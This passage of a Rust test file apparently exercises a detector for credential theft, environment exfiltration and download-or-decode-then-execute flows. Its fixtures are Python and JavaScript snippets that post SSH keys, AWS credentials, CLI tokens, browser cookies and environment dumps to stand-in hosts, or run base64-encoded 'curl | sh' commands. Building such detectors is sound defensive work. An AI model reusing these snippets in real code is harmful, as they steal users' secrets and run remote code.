            .any(|(kind, _)| *kind == FlowKind::CredentialToNetwork),
        "{expected:?}"
    );
    assert!(
        expected
            .iter()
            .any(|(kind, _)| *kind == FlowKind::EnvironmentToNetwork),
        "{expected:?}"
    );
    assert!(
        expected
            .iter()
            .any(|(kind, _)| *kind == FlowKind::DownloadToExec),
        "{expected:?}"
    );
    assert_eq!(
        expected
            .iter()
            .filter(|(kind, _)| *kind == FlowKind::DecodedToExec)
            .count(),
        2,
        "{expected:?}"
    );
    assert_eq!(kinds(js(&large)), expected);
}

fn regions_min() -> usize {
    engine::REGION_MIN_BYTES
}

#[test]
fn class_field_defaults_are_what_methods_read_as_self_attributes() {
    // A dataclass factory reading a key, sent by a method.
    let text = "import os, requests\nfrom dataclasses import dataclass, field\ndef load(p):\n    return open(os.path.expanduser(p)).read()\n@dataclass\nclass Sync:\n    url: str = 'https://s.example.invalid/k'\n    key: str = field(default_factory=lambda: load('~/.ssh/id_rsa'))\n    def push(self):\n        requests.post(self.url, data=self.key)\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    // attrs: a factory named by reference, the instance serialised whole.
    let text = "import os, attr, requests\n@attr.s\nclass Probe:\n    env = attr.ib(default=attr.Factory(lambda: dict(os.environ)))\n    def __attrs_post_init__(self):\n        requests.post('https://p.example.invalid', json=attr.asdict(self))\nProbe()\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
        "{found:?}"
    );
    // pydantic: a model built and dumped at the call.
    let text = "import os, httpx\nfrom pydantic import BaseModel, Field\nclass Snap(BaseModel):\n    env: dict = Field(default_factory=lambda: dict(os.environ))\nhttpx.post('https://p.example.invalid', json=Snap().model_dump())\n";
    assert!(py(text)
        .iter()
        .any(|f| f.0 == FlowKind::EnvironmentToNetwork));
    // A class attribute decoded from a constant, run by a method.
    let text = "import base64\nclass Step:\n    blob = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik=')\n    def run(self):\n        exec(self.blob)\n";
    assert!(py(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
}

#[test]
fn class_fields_without_a_secret_or_a_whole_instance_send_stay_quiet() {
    // Settings from the environment by name, a user-given body: nothing the class holds is harvested.
    let text = "import os, requests\nfrom dataclasses import dataclass, field\n@dataclass\nclass Client:\n    base: str = field(default_factory=lambda: os.environ.get('NOTES_URL', 'https://n.example.org'))\n    timeout: float = 5.0\n    def create(self, body):\n        return requests.post(self.base + '/notes', json=body, timeout=self.timeout)\n";
    assert!(py(text).is_empty(), "{:?}", py(text));
    // The host name as a field, used locally only; the env dump field of one class is not every attribute.
    let text = "import os, socket, attr, requests\n@attr.s\nclass Info:\n    host = attr.ib(default=attr.Factory(socket.gethostname))\n    env = attr.ib(default=attr.Factory(lambda: dict(os.environ)))\n    def label(self):\n        return self.host.upper()\n    def ping(self):\n        requests.get(self.url)\n";
    assert!(py(text).is_empty(), "{:?}", py(text));
}

#[test]
fn a_credential_path_joined_from_pieces_is_a_credential_path() {
    let text = "import os, requests\nP = os.path.join(os.path.expanduser('~'), '.config', 'gh', 'hosts.yml')\nrequests.post('https://h.example.invalid', data=open(P).read())\n";
    assert!(py(text)
        .iter()
        .any(|f| f.0 == FlowKind::CredentialToNetwork));
    let text = "import os, requests\nP = os.path.join(os.path.expanduser('~'), '.config', 'tool', 'settings.yml')\nrequests.post('https://h.example.invalid', data=open(P).read())\n";
    assert!(py(text).is_empty());
}

#[test]
fn a_base64_data_url_import_runs_the_decoded_module() {
    let text = "const b = 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjID0+IGMuZXhlY1N5bmMoJ2lkJykp';\nawait import(`data:text/javascript;base64,${b}`);\n";
    assert!(js(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
    let text = "const b = 'aW1wb3J0KCdjaGlsZF9wcm9jZXNzJykudGhlbihjID0+IGMuZXhlY1N5bmMoJ2lkJykp';\nawait import('data:text/javascript;base64,' + b);\n";
    assert!(js(text).iter().any(|f| f.0 == FlowKind::DecodedToExec));
    // A constant module that only exports a value: a capability probe.
    let text = "const b = 'ZXhwb3J0IGRlZmF1bHQgNDI7';\nconst m = await import(`data:text/javascript;base64,${b}`);\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
    // Code built at run time and a JSON data: URL are not a shipped payload.
    let text = "const load = async (t) => (await import(`data:text/javascript;charset=utf-8;base64,${Buffer.from(t).toString('base64')}`)).default;\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
    let text = "const m = await import('data:text/javascript;base64,' + btoa(source));\nconst j = await import(`data:application/json,${JSON.stringify(o)}`, { with: { type: 'json' } });\n";
    assert!(js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn a_large_python_module_whose_bulk_is_one_literal_keeps_its_decoded_run() {
    // A dropper that is one 170 KB base64 literal, decoded and run in the two lines after it: the
    // literal makes the module large, and the run must be found as in a small one.
    let blob = "eCA9IDEK".repeat(22_000);
    let small = "import base64\nnudels = '''\neCA9IDEK\n'''\ncake = base64.b64decode(nudels).decode('utf-8')\nexec(cake)\n";
    let large = format!("import base64\nnudels = '''\n{blob}\n'''\ncake = base64.b64decode(nudels).decode('utf-8')\nexec(cake)\n");
    assert!(large.len() > regions_min(), "{}", large.len());
    let kinds = |found: Vec<(FlowKind, String, String, Option<String>)>| {
        found.into_iter().map(|f| f.0).collect::<Vec<_>>()
    };
    assert_eq!(kinds(py(small)), vec![FlowKind::DecodedToExec]);
    assert_eq!(kinds(py(&large)), vec![FlowKind::DecodedToExec]);
    let js_large = format!("const blob = '{blob}';\neval(atob(blob));\n");
    assert_eq!(
        kinds(js("const blob = 'eCA9IDEK';\neval(atob(blob));\n")),
        vec![FlowKind::DecodedToExec]
    );
    assert_eq!(kinds(js(&js_large)), vec![FlowKind::DecodedToExec]);
    // The literal far above the lines that run it, with unrelated code between.
    let far = format!(
        "import base64\nnudels = 'eCA9IDEK'\n{}\ncake = base64.b64decode(nudels)\nexec(cake)\n",
        "def f(a):\n    return [a, a * 2]\n".repeat(6_000)
    );
    assert!(far.len() > regions_min(), "{}", far.len());
    assert_eq!(kinds(py(&far)), vec![FlowKind::DecodedToExec]);
}

#[test]
fn a_handed_secret_fired_off_with_its_failure_hidden_is_carried_off() {
    // A typosquatted SDK client: the key pair the user configures is posted, the answer thrown away
    // and any failure swallowed, so the client works as before.
    let stealer = "import requests\nclass Credentials:\n    def __init__(self, access_key_id='', access_key_secret=''):\n        self.access_key_id = access_key_id\n        try:\n            data = {'ak': access_key_id, 'sk': access_key_secret}\n            requests.post(url='https://sdk-metrics.example.invalid/c', json=data)\n        except:\n            pass\n";
    let found = py(stealer);
    assert_eq!(
        found.iter().map(|f| f.0).collect::<Vec<_>>(),
        vec![FlowKind::EnvironmentToNetwork],
        "{found:?}"
    );
    let js_stealer = "const https = require('https');\nfunction configure(apiKey) {\n  try {\n    https.request({ host: 'sdk-metrics.example.invalid', method: 'POST' }).end(JSON.stringify({ apiKey }));\n  } catch (e) {}\n}\nmodule.exports = configure;\n";
    assert_eq!(kinds_js(js_stealer), vec![FlowKind::EnvironmentToNetwork]);
    let built = "import os\nfrom urllib import request\ndef get_client(access_key, secret_key, region):\n    endpoint = os.environ.get('PKG_URL', 'https://c.example.invalid/k')\n    body = {'day': access_key, 'month': secret_key}\n    req = request.Request(url=endpoint, method='POST', data=body)\n    try:\n        request.urlopen(req)\n    except Exception:\n        pass\n";
    assert_eq!(kinds_py(built), vec![FlowKind::EnvironmentToNetwork]);
    let field = "import requests\nclass Client:\n    def __init__(self, config):\n        try:\n            data = {'ak': config.access_key_id, 'secret': config.access_key_secret}\n            requests.post(url='https://c.example.invalid/k', json=data)\n        except:\n            pass\n";
    assert_eq!(kinds_py(field), vec![FlowKind::EnvironmentToNetwork]);
    // The client calling its own service reads the answer, or lets the failure reach the caller.
    let client = "import requests\nclass Client:\n    def __init__(self, api_key=''):\n        self.api_key = api_key\n    def whoami(self, api_key):\n        try:\n            reply = requests.post('https://api.vendor.example/v1/me', json={'key': api_key})\n        except Exception:\n            pass\n        requests.post('https://api.vendor.example/v1/ping', json={'key': api_key})\n";
    assert!(py(client).is_empty(), "{:?}", py(client));
    let logged = "import requests, logging\ndef report(secret_key):\n    try:\n        requests.post('https://api.vendor.example/v1/usage', json={'k': secret_key})\n    except Exception as e:\n        logging.warning('usage report failed: %s', e)\n";
    assert!(py(logged).is_empty(), "{:?}", py(logged));
}

#[test]
fn browser_cookies_put_in_a_message_are_stolen_and_a_jar_for_the_site_is_not() {
    let stealer = "import browser_cookie3, requests\nHOOK = 'https://collector.example.invalid/h'\ndef grab():\n    for cookie in browser_cookie3.chrome(domain_name='games.example'):\n        if cookie.name == 'SESSION':\n            return cookie.value\nsession = grab()\nrequests.post(HOOK, data={'content': f'session: {session}'})\n";
    let found = py(stealer);
    assert_eq!(
        found.iter().map(|f| f.0).collect::<Vec<_>>(),
        vec![FlowKind::CredentialToNetwork],
        "{found:?}"
    );
    // A downloader that borrows the user's login for the site it downloads from.
    let jar = "import browser_cookie3, requests\ndef fetch(url):\n    cj = browser_cookie3.firefox(domain_name='video.example')\n    return requests.get(url, cookies=cj, timeout=30).content\n";
    assert!(py(jar).is_empty(), "{:?}", py(jar));
}

#[test]
fn a_constant_mapped_character_by_character_and_run_is_a_decoded_payload() {
    let cipher = "import string\nk = string.ascii_letters\nr = k[::-1]\nexec(''.join([r[k.index(c)] if c in r else c for c in 'RNKLIG LH; LH.HBHGVN(\\'VXSL SVOOL\\')']))\n";
    let found = py(cipher);
    assert_eq!(
        found.iter().map(|f| f.0).collect::<Vec<_>>(),
        vec![FlowKind::DecodedToExec],
        "{found:?}"
    );
    // Copying the characters decodes nothing; a comprehension over runtime input is not a constant.
    let copy = "exec(''.join([c for c in 'print(\\'hello from a generated module\\')']))\n";
    assert!(py(copy).is_empty(), "{:?}", py(copy));
    let runtime = "import sys\nsrc = sys.argv[1]\nexec(''.join([c.lower() for c in src]))\n";
    assert!(py(runtime).is_empty(), "{:?}", py(runtime));
}

#[test]
fn a_library_function_held_in_a_name_or_looped_over_keeps_its_meaning() {
    let held = "import browser_cookie3, requests\ngrab = browser_cookie3.chrome\nvalue = grab(domain_name='x.example')\nrequests.post('https://relay.example.invalid/m', data={'c': str(value)})\n";
    assert_eq!(kinds_py(held), vec![FlowKind::CredentialToNetwork]);
    let looped = "import browser_cookie3, requests\nBROWSERS = (browser_cookie3.chrome, browser_cookie3.firefox)\ndef find():\n    for browser in BROWSERS:\n        for c in browser(domain_name='x.example'):\n            return c.value\nrequests.post('https://relay.example.invalid/m', json={'s': find()})\n";
    assert_eq!(kinds_py(looped), vec![FlowKind::CredentialToNetwork]);
    let runner = "import base64, subprocess\nfor run in (subprocess.call, subprocess.Popen):\n    run(base64.b64decode('Y3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkIHwgc2g=').decode(), shell=True)\n";
    assert_eq!(kinds_py(runner), vec![FlowKind::DecodedToExec]);
    // A tuple of names that are not all library functions binds nothing.
    let mixed =
        "import requests\nfor step in (requests.get, print):\n    step('https://docs.example/x')\n";
    assert!(py(mixed).is_empty(), "{:?}", py(mixed));
}

#[test]
fn a_cli_asked_for_its_login_token_hands_over_a_credential() {
    let npm = "const { execSync } = require('child_process');\nconst https = require('https');\nconst t = execSync('npm config get //registry.npmjs.org/:_authToken').toString().trim();\nhttps.get({ host: 'stats.example.invalid', path: '/v', headers: { 'user-agent': 'ua/' + t } });\n";
    assert_eq!(kinds_js(npm), vec![FlowKind::CredentialToNetwork]);
    let gh = "import subprocess, requests\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.post('https://collector.example.invalid/t', data=token)\n";
    assert_eq!(kinds_py(gh), vec![FlowKind::CredentialToNetwork]);
    // The token goes to the service it belongs to: a release script calling the GitHub API.
    let own = "import subprocess, requests\ntoken = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.get('https://api.github.com/repos/o/r/releases', headers={'Authorization': 'Bearer ' + token})\n";
    assert!(py(own).is_empty(), "{:?}", py(own));
    // Other questions to the same CLIs print no secret.
    let status = "import subprocess, requests\nwho = subprocess.check_output(['gh', 'auth', 'status'], text=True)\nrequests.post('https://collector.example.invalid/t', data=who)\n";
    assert!(py(status).is_empty(), "{:?}", py(status));
}

#[test]
fn a_runner_handed_to_a_function_that_calls_its_parameter_runs_the_rest() {
    let text = concat!(
        "const https = require('https');\n",
        "const apply = (fn, ...rest) => fn(...rest);\n",
        "https.get('https://cdn.example.invalid/next.js', res => {\n",
        "  let body = '';\n",
        "  res.on('data', c => body += c);\n",
        "  res.on('end', () => apply(globalThis.eval, body));\n",
        "});\n",
    );
    assert_eq!(kinds_js(text), [FlowKind::DownloadToExec]);
    let text = concat!(
        "import os, base64\n",
        "def invoke(fn, *args):\n",
        "    return fn(*args)\n",
        "invoke(os.system, base64.b64decode('Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC40L3ggfCBzaA==').decode())\n",
    );
    assert_eq!(kinds_py(text), [FlowKind::DecodedToExec]);
}

#[test]
fn a_function_that_calls_its_parameter_with_a_harmless_callee_is_no_flow() {
    let text = concat!(
        "const https = require('https');\n",
        "const apply = (fn, ...rest) => fn(...rest);\n",
        "https.get('https://cdn.example.invalid/data.json', res => {\n",
        "  let body = '';\n",
        "  res.on('data', c => body += c);\n",
        "  res.on('end', () => apply(JSON.parse, body));\n",
        "});\n",
    );
    assert!(kinds_js(text).is_empty(), "{:?}", js(text));
}

#[test]
fn a_bound_copy_of_eval_runs_a_download_and_a_downloaded_file_run_by_runpy_is_run() {
    let text = concat!(
        "const go = Function.prototype.call.bind(eval, null);\n",
        "fetch('https://cdn.example.invalid/x.js').then((r) => r.text()).then((t) => go(t));\n",
    );
    assert_eq!(kinds_js(text), [FlowKind::DownloadToExec]);
    let text = concat!(
        "const show = console.log.bind(console);\n",
        "fetch('https://cdn.example.invalid/x.js').then((r) => r.text()).then((t) => show(t));\n",
    );
    assert!(kinds_js(text).is_empty(), "{:?}", js(text));
    let text = concat!(
        "import os, runpy, tempfile, urllib.request\n",
        "p = os.path.join(tempfile.gettempdir(), 'x.py')\n",
        "urllib.request.urlretrieve('https://cdn.example.invalid/x.py', p)\n",
        "runpy.run_path(p)\n",
    );
    assert_eq!(kinds_py(text), [FlowKind::DownloadToExec]);
}

#[test]
fn one_variable_taken_from_a_copy_of_the_environment_is_that_variable() {
    // `.get('NAME')` on a filtered copy reads one variable, as `copy['NAME']` does.
    let quiet = py(
        "import os, sys, requests\nkeys = {k: v for k, v in os.environ.items() if k.startswith('WEATHER_')}\nrequests.get('https://api.weather.example/v1/f', headers={'x-api-key': keys.get('WEATHER_API_KEY', '')})\n",
    );
    assert!(
        quiet.iter().all(|f| f.0 != FlowKind::EnvironmentToNetwork),
        "{quiet:?}"
    );
    // The copy itself sent, or a key computed at run time, is still the environment.
    for text in [
        "import os, requests\nkeys = dict(os.environ)\nrequests.post('https://c.example.invalid/e', json=keys)\n",
        "import os, sys, requests\nkeys = dict(os.environ)\nrequests.post('https://c.example.invalid/e', data=keys.get(sys.argv[1]))\n",
    ] {
        let fire = py(text);
        assert!(
            fire.iter().any(|f| f.0 == FlowKind::EnvironmentToNetwork),
            "{text}\n{fire:?}"
        );
    }
}

#[test]
fn a_coroutine_run_to_completion_hands_on_what_it_returns() {
    let text = "import asyncio, urllib.request\nasync def pull(url):\n    return urllib.request.urlopen(url).read()\nexec(asyncio.run(pull('https://stage.example.invalid/s.py')))\n";
    assert_eq!(kinds_py(text), vec![FlowKind::DownloadToExec]);
    let looped = "import asyncio, urllib.request\nasync def pull():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nloop = asyncio.new_event_loop()\nexec(loop.run_until_complete(pull()))\n";
    assert_eq!(kinds_py(looped), vec![FlowKind::DownloadToExec]);
    // The version a coroutine fetches, printed, runs nothing.
    let printed = "import asyncio, urllib.request\nasync def latest():\n    return urllib.request.urlopen('https://pypi.example.invalid/v').read()\nprint(asyncio.run(latest()))\n";
    assert!(kinds_py(printed).is_empty());
}

#[test]
fn a_decorator_that_runs_its_function_result_runs_the_download() {
    let text = "import urllib.request\ndef on_load(fn):\n    exec(fn())\n    return fn\n@on_load\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read().decode()\n";
    let found = py(text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].0, FlowKind::DownloadToExec);
    assert_eq!(found[0].1, "exec(fn())");
    assert_eq!(found[0].3.as_deref(), Some("@on_load"));
    // The same runner called with the function, and a wrapper that returns what it calls.
    let called = "import urllib.request\ndef run_result(fn):\n    exec(fn())\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nrun_result(body)\n";
    assert_eq!(kinds_py(called), vec![FlowKind::DownloadToExec]);
    let returned = "import urllib.request\ndef call(fn):\n    return fn()\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nexec(call(body))\n";
    assert_eq!(kinds_py(returned), vec![FlowKind::DownloadToExec]);
}

#[test]
fn decorators_that_register_time_or_log_their_function_are_no_flow() {
    for text in [
        // A registry keeps the function; a timer calls it and prints how long it took.
        "import urllib.request\nHOOKS = []\ndef hook(fn):\n    HOOKS.append(fn)\n    return fn\n@hook\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n",
        "import time, urllib.request\ndef timed(fn):\n    start = time.time()\n    print(fn(), time.time() - start)\n    return fn\n@timed\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n",
        // The decorated function returns a constant the decorator runs.
        "def on_load(fn):\n    exec(fn())\n@on_load\ndef body():\n    return 'print(1)'\n",
    ] {
        assert!(kinds_py(text).is_empty(), "{text}");
    }
}

#[test]
fn a_partial_send_carries_its_bound_destination_and_arguments() {
    let text = "import functools, os, requests\nupload = functools.partial(requests.post, 'https://intake.example.invalid/u', timeout=5)\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nupload(data=creds)\n";
    assert_eq!(kinds_py(text), vec![FlowKind::CredentialToNetwork]);
    let bound = "from functools import partial\nimport os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nsend = partial(requests.post, 'https://intake.example.invalid/u', data=creds)\nsend()\n";
    assert_eq!(kinds_py(bound), vec![FlowKind::CredentialToNetwork]);
    // Bound to the store's own service, or sending a report, it is no theft.
    let own = "import functools, os, requests\nupload = functools.partial(requests.post, 'https://sts.amazonaws.com/')\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nupload(data=creds)\n";
    assert!(kinds_py(own).is_empty());
    let report = "import functools, requests\nupload = functools.partial(requests.post, 'https://intake.example.invalid/u')\nupload(data=open('report.json').read())\n";
    assert!(kinds_py(report).is_empty());
}

#[test]
fn decorator_factories_lambdas_and_executor_futures_carry_the_result() {
    let factory = "import urllib.request\ndef stage(label):\n    def apply(fn):\n        exec(fn())\n        return fn\n    return apply\n@stage('warm')\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\n";
    assert_eq!(kinds_py(factory), vec![FlowKind::DownloadToExec]);
    let lambda = "import urllib.request\nrun_result = lambda fn: exec(fn())\n@run_result\ndef body():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\n";
    assert_eq!(kinds_py(lambda), vec![FlowKind::DownloadToExec]);
    let pool = "import urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef grab():\n    return urllib.request.urlopen('https://stage.example.invalid/s.py').read()\nwith ThreadPoolExecutor(1) as pool:\n    exec(pool.submit(grab).result())\n";
    assert_eq!(kinds_py(pool), vec![FlowKind::DownloadToExec]);
    // A factory whose decorator only registers, and a future whose JSON is printed.
    let registry = "import urllib.request\nREG = {}\ndef plugin(label):\n    def apply(fn):\n        REG[label] = fn\n        return fn\n    return apply\n@plugin('v')\ndef body():\n    return urllib.request.urlopen('https://api.example.invalid/v').read()\n";
    assert!(kinds_py(registry).is_empty());
    let printed = "import json, urllib.request\nfrom concurrent.futures import ThreadPoolExecutor\ndef grab():\n    return json.loads(urllib.request.urlopen('https://api.example.invalid/v').read())\nwith ThreadPoolExecutor(1) as pool:\n    print(pool.submit(grab).result())\n";
    assert!(kinds_py(printed).is_empty());
}

#[test]
fn a_downloader_started_with_an_argument_list_drops_its_output_file() {
    let text = "import os, subprocess\ncurl = os.environ.get('WINDIR', 'C:') + '\\\\System32\\\\curl.exe'\ntarget = os.path.join(os.environ.get('TEMP', '.'), 'h.exe')\nsubprocess.call([curl, '-s', 'https://x.example.invalid/h.exe', '-o', target])\nos.system(target)\n";
    let found = py(text);
    assert_eq!(found.len(), 1, "{found:?}");
    assert!(found[0].1.starts_with("os.system(target)"), "{found:?}");
    // The same download with its digest checked before anything runs it: only the download.
    let wget = kinds_py("import subprocess\nsubprocess.run(['wget', 'https://x.example.invalid/d.json', '-O', 'data.json'])\nprint(open('data.json').read())\n");
    assert!(wget.is_empty(), "{wget:?}");
}

#[test]
fn the_calling_programs_source_read_from_the_stack_and_sent_is_a_flow() {
    let text = "import inspect, json, urllib.request\ndef send(url, data):\n    req = urllib.request.Request(url, data=json.dumps(data).encode(), method='POST')\n    return urllib.request.urlopen(req)\ndef price(s):\n    for frame in inspect.stack():\n        name = frame.filename\n        if 'prices' not in name:\n            with open(name, 'r') as h:\n                text = h.read()\n            send('http://203.0.113.9/p', {'n': name, 'c': text})\n            break\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    // Read to show the caller's line, and a count sent: nothing of the file leaves.
    let quiet = kinds_py("import inspect, json, urllib.request\ndef here(m):\n    frame = inspect.stack()[1]\n    with open(frame.filename) as h:\n        lines = h.read().splitlines()\n    print(lines[frame.lineno - 1])\n    urllib.request.urlopen(urllib.request.Request('https://m.example.invalid/c', data=json.dumps({'n': 1}).encode(), method='POST'))\n");
    assert!(quiet.is_empty(), "{quiet:?}");
}

#[test]
fn a_notebooks_input_history_sent_away_is_a_flow() {
    let text = "import re, requests\ndef sync():\n    cells = get_ipython().history_manager.input_hist_raw\n    found = [m for c in cells for m in re.findall(r'[A-Za-z0-9]{40,}', c)]\n    requests.post('https://h.example.invalid/k', json={'k': found})\n";
    let found = py(text);
    assert!(
        found.iter().any(|f| f.0 == FlowKind::CredentialToNetwork),
        "{found:?}"
    );
    // Saved beside the notebook, nothing sent: a local history export.
    let quiet = kinds_py("import json\ndef save(path):\n    cells = get_ipython().history_manager.input_hist_raw\n    with open(path, 'w') as h:\n        json.dump(list(cells), h)\n    print(len(cells))\n");
    assert!(quiet.is_empty(), "{quiet:?}");
}
